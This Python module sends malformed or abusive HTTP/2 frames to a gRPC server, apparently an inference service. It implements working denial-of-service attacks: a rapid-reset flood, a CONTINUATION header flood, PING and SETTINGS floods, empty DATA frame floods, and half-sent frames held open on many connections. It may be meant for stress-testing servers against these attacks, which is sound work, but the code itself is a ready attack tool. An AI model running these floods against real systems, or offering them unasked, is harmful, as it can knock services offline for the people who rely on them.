"""Frames of HTTP/2 as no library would send them, against a server's port for gRPC."""

import contextlib
import socket
from collections import Counter
from collections.abc import Iterator

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = (8).to_bytes(4, "big")


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame, whose length is that of what it holds."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def headers(path: str) -> bytes:
    """The block of the headers with which a call begins, none of them compressed."""
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
             ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs)


def _text(value: str) -> bytes:
    assert len(value) < 127, "one byte holds the length"
    return bytes([len(value)]) + value.encode()


@contextlib.contextmanager
def connection(address: str) -> Iterator[socket.socket]:
    """A connection that has begun as HTTP/2 does."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=60) as found:
        found.sendall(PREFACE + frame(SETTINGS))
        yield found


def flood(address: str, frames: Iterator[bytes]) -> Counter[str]:
    """Send all that the server takes, and say whether it took it to the end."""
    with connection(address) as found:
        found.settimeout(5)
        try:
            for part in frames:
                found.sendall(part)
                found.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while found.recv(1 << 16):
                        pass
                found.settimeout(5)
        except TimeoutError:
            return Counter({"not read on": 1})
        except OSError:
            return Counter({"closed": 1})
    return Counter({"taken": 1})


def rapid_reset(address: str, count: int) -> Counter[str]:
    """Begin calls and take each back at once."""
    block = headers("/inference.GRPCInferenceService/ModelInfer")

    def frames() -> Iterator[bytes]:
        for first in range(1, 2 * count, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, CANCEL)
                for stream in range(first, first + 200, 2)
            )

    return flood(address, frames())


def endless_headers(address: str, count: int) -> Counter[str]:
    """Headers that go on in frame after frame."""
    part = frame(CONTINUATION, 0, 1, b"\0" + _text("a" * 60) + _text("b" * 60)) * 100

    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, headers("/inference.GRPCInferenceService/ServerLive"))
        yield from (part for _ in range(count // 100))

    return flood(address, frames())


def pings(address: str, count: int) -> Counter[str]:
    """Pings, which are to be answered."""
    return flood(address, (frame(PING, 0, 0, bytes(8)) * 100 for _ in range(count // 100)))


def settings(address: str, count: int) -> Counter[str]:
    """Settings, which are to be acknowledged."""
    part = frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 100
    return flood(address, (part for _ in range(count // 100)))


def empty_data(address: str, count: int) -> Counter[str]:
    """A call whose message comes in frames that hold nothing."""

    def frames() -> Iterator[bytes]:
        block = headers("/inference.GRPCInferenceService/ModelStreamInfer")
        yield frame(HEADERS, END_HEADERS, 1, block)
        yield from (frame(DATA, 0, 1) * 100 for _ in range(count // 100))

    return flood(address, frames())


def half_frames(address: str, count: int) -> Counter[str]:
    """Connections that stop in the middle of a frame."""
    found = Counter[str]()
    whole = frame(HEADERS, END_HEADERS, 1, headers("/inference.GRPCInferenceService/ServerLive"))
    with contextlib.ExitStack() as stack:
        for number in range(count):
            one = stack.enter_context(connection(address))
            one.sendall(whole[: 3 + number % (len(whole) - 3)])
            found["sent"] += 1
    return found
